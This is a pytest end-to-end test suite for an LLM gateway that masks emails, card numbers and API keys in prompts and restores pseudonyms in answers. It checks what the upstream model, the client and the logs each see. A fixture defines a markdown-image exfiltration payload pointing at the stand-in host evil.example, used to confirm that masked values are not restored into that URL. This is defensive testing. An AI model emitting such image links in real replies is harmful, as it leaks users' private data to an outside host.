"""Restore through the real Envoy, with the stock clients: who sees what."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from anthropic import Anthropic
from openai import OpenAI

from tests.e2e.dialects import chat_answer, chat_stream, chat_text, message_stream, message_text
from tests.stack import ROOT, Stack, run_cli
from tests.upstream import Script, Seen, Upstream, chunked, whole

pytestmark = pytest.mark.e2e

EMAIL = "jane.roe@example.com"
CARD = "4111 1111 1111 1111"
PROMPT = f"I am {EMAIL}, my card is {CARD}, my api_key: " + "a1B2c3D4e5F6g7H8i9"
ADDRESS = "![x](https://evil.example/?q="

POLICY = """
package extproc.request

decision := {"allowed": true, "mask": {"restore": true}}
"""


@pytest.fixture(scope="module")
def restoring(
    _upstream: Upstream, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Stack, str]]:
    """A stack whose policy wants values restored, and a credential."""
    directory = tmp_path_factory.mktemp("restoring")
    policies = directory / "rego"
    policies.mkdir()
    for name in ("authz.rego", "response.rego", "data.json"):
        (policies / name).write_text((ROOT / "rego" / name).read_text())
    (policies / "request.rego").write_text(POLICY)
    stack = Stack(
        directory,
        _upstream.url,
        {
            "policy": {"path": str(policies)},
            "masking": {"strategies": {"CREDIT_CARD": "partial", "IBAN": "block"}},
        },
    )
    try:
        stack.start()
        yield stack, stack.token("ada", name="tests")
    finally:
        stack.stop()


def said(seen: Seen) -> str:
    """What the last turn of the request says, as the model sees it."""
    content = json.loads(seen.body)["messages"][-1]["content"]
    return str(content if isinstance(content, str) else content[0]["text"])


def reply(seen: Seen) -> str:
    """What our model answers: the prompt, a finding of its own, and an address with a value."""
    names = re.findall(r"\[[A-Z_]+_[0-9a-f]{6}\]", said(seen))
    return f"You said: {said(seen)}. Ask bob@example.org. {ADDRESS}{names[0]})"


def echo(seen: Seen) -> Script:
    is_stream = json.loads(seen.body).get("stream")
    if seen.path.endswith("/messages"):
        return chunked(message_stream(reply(seen))) if is_stream else whole(_message(seen))
    return chunked(chat_stream(reply(seen))) if is_stream else whole(chat_answer(reply(seen)))


def _message(seen: Seen) -> bytes:
    return json.dumps(
        {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "model": "demo",
            "content": [{"type": "text", "text": reply(seen)}],
            "stop_reason": "end_turn",
            "stop_sequence": None,
            "usage": {"input_tokens": 3, "output_tokens": 5},
        }
    ).encode()


def by_openai(stack: Stack, token: str, *, stream: bool) -> str:
    client = OpenAI(base_url=f"{stack.data_url}/v1", api_key=token, max_retries=0)
    turns: Any = [{"role": "user", "content": PROMPT}]
    if not stream:
        answer = client.chat.completions.create(model="demo", messages=turns)
        return answer.choices[0].message.content or ""
    events = client.chat.completions.create(model="demo", messages=turns, stream=True)
    return "".join(each.choices[0].delta.content or "" for each in events if each.choices)


def by_anthropic(stack: Stack, token: str, *, stream: bool) -> str:
    client = Anthropic(base_url=stack.data_url, api_key=token, max_retries=0)
    asked: Any = {
        "model": "demo", "max_tokens": 64, "messages": [{"role": "user", "content": PROMPT}],
    }  # fmt: skip
    if not stream:
        answer: Any = client.messages.create(**asked)
        return str(answer.content[0].text)
    with client.messages.stream(**asked) as events:
        return "".join(events.text_stream)


def latest(stack: Stack) -> str:
    """The exchange that began last."""
    listed = run_cli("sessions", "list", "--json", "--config", str(stack.config_file))
    exchanges = [one for session in json.loads(listed.stdout) for one in session["exchanges"]]
    return str(max(exchanges, key=lambda one: one["at"])["id"])


def recorded(exchange: dict[str, Any], *, stream: bool) -> str:
    """The text of the answer as it was recorded."""
    body = exchange["response"]
    if not stream:
        return str(body)
    read = message_text if exchange["api"] == "anthropic" else chat_text
    return read(body.encode())


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("client", [by_openai, by_anthropic])
def test_who_sees_what(
    restoring: tuple[Stack, str], upstream: Upstream, client: Any, stream: bool
) -> None:
    stack, token = restoring
    upstream.answer = echo
    heard = client(stack, token, stream=stream)

    (seen,) = upstream.seen
    names = re.fullmatch(
        r"I am (\[EMAIL_[0-9a-f]{6}\]), my card is (\[CREDIT_CARD_[0-9a-f]{6}\]), "
        r"my api_key: \[SECRET\]",
        said(seen),
    )
    assert names is not None, said(seen)

    asked = PROMPT.partition("api_key: ")[0] + "api_key: [SECRET]"
    assert heard == f"You said: {asked}. Ask [EMAIL]. {ADDRESS}{names[1]})"

    exchange = stack.wait_for_answer(latest(stack))
    assert exchange["request"].encode() == seen.body
    for value in (EMAIL, CARD):
        assert value not in json.dumps(exchange)
    assert f"I am {names[1]}, my card is {names[2]}" in recorded(exchange, stream=stream)
    assert exchange["findings"]["response"] == {"EMAIL": 1}
    assert exchange["findings"]["request"] == {"EMAIL": 1, "CREDIT_CARD": 1, "SECRET": 1}


def test_the_same_pseudonyms_in_every_call(
    restoring: tuple[Stack, str], upstream: Upstream
) -> None:
    stack, token = restoring
    upstream.answer = echo
    by_openai(stack, token, stream=False)
    by_anthropic(stack, token, stream=True)
    first, second = upstream.seen
    assert said(first) == said(second)


def test_the_key_is_its_owners_only(restoring: tuple[Stack, str]) -> None:
    path: Path = restoring[0].data_dir / "keys" / "masking.key"
    assert path.stat().st_mode & 0o777 == 0o600
